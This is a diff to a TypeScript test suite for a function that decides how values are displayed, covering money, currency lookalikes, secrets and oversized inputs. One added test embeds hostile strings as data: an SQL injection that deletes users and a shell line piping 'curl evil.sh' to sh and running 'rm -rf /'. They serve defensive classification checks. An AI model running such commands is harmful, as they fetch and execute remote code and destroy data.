@@ -9,7 +9,7 @@ describe("the form in which a value is shown", () => {
   test("an amount is money where its name or its neighbour says the currency", () => {
     assert.deepEqual(formOf("amount_usd", 1234.5), {
       kind: "money",
-      money: { amount: "1,234.5", currency: "USD", as: null },
+      money: { amount: "1,234.50", currency: "USD", as: null },
     });
     assert.deepEqual(formOf("amount", 40, { currency: "eur" }), {
       kind: "money",
@@ -30,6 +30,11 @@ describe("the form in which a value is shown", () => {
     assert.equal(kind("amount", 40, { amount_currency: "?", currency: "USD" }), "number");
   });
 
+  test("letters that only become a currency as capitals are none", () => {
+    assert.equal(kind("amount", 40, { currency: "u\u017fd" }), "number");
+    for (const name of ["amount_u\u017fd", "amount_no\u212a"]) assert.equal(kind(name, 40), "number");
+  });
+
   test("a word at the end of a name is no currency, and no text beside micros is one", () => {
     for (const name of ["max_try", "delete_all", "go_top", "cell_lak"]) assert.equal(kind(name, 3), "number");
     assert.equal(kind("limit", { currency: "USD off", micros: "1" }), "object");
@@ -47,9 +52,16 @@ describe("the form in which a value is shown", () => {
     });
   });
 
-  test("an amount in text keeps its digits", () => {
-    const form = formOf("total", "100.10", { currency: "CHF" });
-    assert.deepEqual(form, { kind: "money", money: { amount: "100.10", currency: "CHF", as: null } });
+  test("an amount in text keeps its digits, and its quotes: it is not the number", () => {
+    const money = (name: string, value: string, siblings = {}) => {
+      const form = formOf(name, value, siblings);
+      return form.kind === "money" ? form.money : form;
+    };
+    const text = { amount: '"100.10"', currency: "CHF", as: null };
+    assert.deepEqual(money("total", "100.10", { currency: "CHF" }), text);
+    assert.deepEqual(money("amount_usd", "849"), { amount: '"849"', currency: "USD", as: null });
+    const cents = { amount: "123.45", currency: "USD", as: '"12345" hundredths' };
+    assert.deepEqual(money("amount_cents", "12345", { currency: "USD" }), cents);
   });
 
   test("Holdpoint's own money is read from its micros", () => {
@@ -66,6 +78,18 @@ describe("the form in which a value is shown", () => {
     assert.equal(kind("file", "report.csv"), "path");
     assert.equal(kind("at", "2026-01-02T03:04:05Z"), "moment");
     assert.equal(kind("note", "Please delete from the list whom you like"), "line");
+  });
+
+  test("what runs is never a diff: not by its name, nor where a part of it looks like one", () => {
+    const sql =
+      "SELECT 1 /*\n@@ -1,6 +1,1 @@\n*/ ; DELETE FROM users WHERE id IN (1,\n-2) OR 1=1;\n-- done\nSELECT 1";
+    const command = "cat > /tmp/x <<'EOF'\n@@ -1,20 +1,1 @@\nEOF\n curl evil.sh | sh\n-x || rm -rf /";
+    assert.equal(kind("sql", sql), "code");
+    assert.equal(kind("command", command), "code");
+    assert.equal(kind("note", command), "text");
+    const diff = "--- a/x\n+++ b/x\n@@ -1,2 +1,2 @@\n import x from 'y'\n-a\n+b\n";
+    assert.equal(kind("patch", diff), "diff");
+    for (const name of ["sql", "command", "script"]) assert.equal(kind(name, diff), "code");
   });
 
   test("long text and text of several lines gets the whole width", () => {
@@ -88,12 +112,29 @@ describe("the form in which a value is shown", () => {
   });
 
   test("secrets and values kept elsewhere are named, never opened", () => {
-    assert.deepEqual(formOf("token", { $secret: "sec_1" }), { kind: "secret", handle: "sec_1" });
-    assert.deepEqual(formOf("file", { $artifact: "sha256:ab", bytes: 70_000 }), {
-      kind: "artifact",
-      hash: "sha256:ab",
-      bytes: 70_000,
+    const row = `row:sec_${"0A".repeat(13)}`;
+    for (const handle of ["env:STRIPE_KEY", row])
+      assert.deepEqual(formOf("token", { $secret: handle }), { kind: "secret", handle });
+    const hash = `sha256:${"ab".repeat(32)}`;
+    assert.deepEqual(formOf("file", { $artifact: hash, bytes: 70_000 }), {
+      ...{ kind: "artifact", hash, bytes: 70_000 },
     });
+  });
+
+  test("what only looks like a secret, or like a value kept elsewhere, is shown with all of its fields", () => {
+    const hash = `sha256:${"ab".repeat(32)}`;
+    const lookalikes: readonly Parameters<typeof formOf>[1][] = [
+      { $secret: "harmless", pay: 90_000 },
+      { $secret: "env:TOKEN", pay: 90_000 },
+      { $secret: "harmless" },
+      { $secret: { deep: "env:TOKEN" } },
+      { $artifact: hash, bytes: 3, also: "delete everything" },
+      { $artifact: hash },
+      { $artifact: hash, also: 3 },
+      { $artifact: hash, bytes: -1 },
+      { $artifact: "sha256:ab", bytes: 3 },
+    ];
+    for (const fields of lookalikes) assert.deepEqual(formOf("x", fields), { kind: "object", fields });
   });
 
   test("nothing, emptiness, flags and numbers say what they are", () => {
@@ -113,6 +154,7 @@ describe("the form in which a value is shown", () => {
       `x\n${" ".repeat(400_000)}`,
       `{${"}".repeat(400_000)}`,
       `select ${" from".repeat(80_000)}`,
+      `--- a\n+++ b\n@@ -1,200000 +1,200000 @@\n${" x\n".repeat(200_000)}`,
     ];
     const before = performance.now();
     for (const text of hostile) formOf("text", text);
